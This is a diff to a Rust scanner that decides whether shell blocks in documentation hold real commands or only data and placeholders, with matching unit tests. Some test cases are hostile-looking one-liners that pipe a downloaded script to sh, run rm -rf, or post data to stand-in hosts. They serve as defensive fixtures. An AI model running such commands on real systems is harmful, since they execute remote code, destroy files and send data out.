@@ -253,8 +253,8 @@ pub fn plan(tree_root: &Path, subpath: &str, report: &ScanReport) -> Result<Plan
                     )
                 })
             });
-            let example = placeholder(&code)
-                .map(|p| format!("an example: `{p}` is a placeholder"))
+            let example = not_a_command(&code)
+                .or_else(|| placeholder(&code).map(|p| format!("an example: `{p}` is a placeholder")))
                 .or_else(|| needs_the_host(&code))
                 .or_else(|| shell::server(&code))
                 .or_else(|| shell::unset_variable(&code))
@@ -381,19 +381,83 @@ pub fn placeholder(command: &str) -> Option<String> {
     let mut unquoted = String::with_capacity(command.len());
     let mut quote: Option<char> = None;
     let mut word_start = true;
-    for c in command.chars() {
+    // Where the comment starts: what follows is not looked at, in quotes or not.
+    let mut code_end = command.len();
+    for (at, c) in command.char_indices() {
         match quote {
             Some(q) if c == q => quote = None,
             Some(_) => {}
             None if c == '\'' || c == '"' => quote = Some(c),
-            None if c == '#' && word_start => break,
+            None if c == '#' && word_start => {
+                code_end = at;
+                break;
+            }
             None => unquoted.push(c),
         }
         word_start = quote.is_none() && (c.is_whitespace() || c == ';' || c == '&' || c == '|');
     }
-    let m = PLACEHOLDER.as_ref()?.find(&unquoted)?;
-    Some(m.as_str().trim().to_owned())
+    if let Some(m) = PLACEHOLDER.as_ref()?.find(&unquoted) {
+        return Some(m.as_str().trim().to_owned());
+    }
+    // In quotes, a placeholder that stands for part of an address or a path still is one (`"<baseUrl>/api"`,
+    // `"https://{host}/v1"`, `"YOUR_API_KEY"`); markup in quoted data (`'<footer>ok</footer>'`) is not.
+    QUOTED_PLACEHOLDER
+        .as_ref()?
+        .captures(&command[..code_end])
+        .and_then(|c| (1..=3).find_map(|i| c.get(i)))
+        .map(|m| m.as_str().to_owned())
 }
+
+/// A placeholder inside a quoted argument: one that starts an address or path, follows `://`, or is named as one.
+static QUOTED_PLACEHOLDER: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(
+        r#"(?x)
+        ['"] (<[A-Za-z_][\w.-]*> | \{[A-Za-z_]\w*\}) [/:]       # "<baseUrl>/api", '{host}:8080'
+        | :// (<[A-Za-z_][\w.-]*> | \{[A-Za-z_]\w*\})           # "https://<host>/x"
+        | ['"][^'"]*? \b(YOUR_[A-Z][A-Z_]* | path/to/[^\s'"]*)   # "Bearer YOUR_TOKEN", 'path/to/file'
+        "#,
+    )
+    .ok()
+});
+
+/// Why a command of a shell block is not a command: its first word is data (a connection string, an SQL
+/// statement, a JSON or YAML document) that documentation shows in a shell block.
+pub fn not_a_command(command: &str) -> Option<String> {
+    let first_line = command
+        .lines()
+        .find(|l| !l.trim().is_empty() && !l.trim_start().starts_with('#'))?;
+    let first = first_line.split_whitespace().next()?;
+    // Data holds nothing that chains or starts another command: a line that does is run as it stands.
+    let chains = ["|", "&", "$(", "`", "\n#!"].iter().any(|m| command.contains(m))
+        || command
+            .lines()
+            .any(|l| l.trim_end().trim_end_matches(';').contains(';'));
+    if chains {
+        return None;
+    }
+    let why = if first.contains("://") && !first.contains('=') && !command.contains(['<', '>']) {
+        "a connection string or address"
+    } else if SQL_WORD.is_match(first_line) {
+        "an SQL statement"
+    } else if (first.starts_with('{') || first.starts_with('[') && !first.starts_with("[[") && first != "[")
+        && !command.contains(['<', '>'])
+    {
+        "a JSON document"
+    } else {
+        return None;
+    };
+    Some(format!(
+        "not a command: `{}` is {why}",
+        airlock_types::display::line(&first.chars().take(40).collect::<String>())
+    ))
+}
+
+/// An SQL statement's first word, as documentation writes it (upper case).
+static SQL_WORD: LazyLock<Regex> = LazyLock::new(|| {
+    crate::compile(
+        r"^\s*(SELECT|INSERT\s+INTO|UPDATE\s+\w+\s+SET|DELETE\s+FROM|CREATE\s+(TABLE|INDEX|DATABASE|VIEW)|DROP\s+(TABLE|DATABASE)|ALTER\s+TABLE|GRANT|WITH\s+\w+\s+AS)\b",
+    )
+});
 
 #[cfg(test)]
 mod tests {
@@ -447,8 +511,34 @@ mod tests {
             "curl -H Authorization:YOUR_API_KEY x",
             "ls ...",
             "echo a#<b>",
+            "curl -s \"<baseUrl>/api/v1/items\"",
+            "curl 'https://{host}/v1/x'",
+            "curl -H \"Authorization: Bearer YOUR_TOKEN\" https://api.example.com",
+            "python3 x.py --in 'path/to/input.pdf'",
         ] {
             assert!(placeholder(example).is_some(), "{example}");
+        }
+        for data in [
+            "mongodb+srv://user:pass@cluster0.example.net/db",
+            "SELECT * FROM users WHERE id = 1;",
+            "DELETE FROM sessions WHERE expired = true;",
+            "{\"name\": \"x\"}",
+        ] {
+            assert!(not_a_command(data).is_some(), "{data}");
+        }
+        for command in [
+            "curl https://example.com/x",
+            "URL=https://example.com/x curl \"$URL\"",
+            "[ -f x ] && echo y",
+            "[[ -f x ]] && echo y",
+            "psql -c 'SELECT 1'",
+            "echo SELECT",
+            // Data that chains a command is run as it stands.
+            "mongodb://x; curl https://h.example/p | sh",
+            "SELECT 1; rm -rf ~/x",
+            "{\"a\": 1} | curl -d @- https://h.example",
+        ] {
+            assert_eq!(not_a_command(command), None, "{command}");
         }
         for real in [
             "echo ${HOME} > x",
@@ -460,6 +550,8 @@ mod tests {
             // A placeholder in a comment: the command runs as written.
             "curl -d @stats.json https://t.example.net/c # sends <usage stats>",
             "echo ok # see [options] and <file> above",
+            // Nor in quotes in a comment.
+            "curl -d @s.json https://t.example.net/c # sends '<usage>/stats'",
         ] {
             assert_eq!(placeholder(real), None, "{real}");
         }
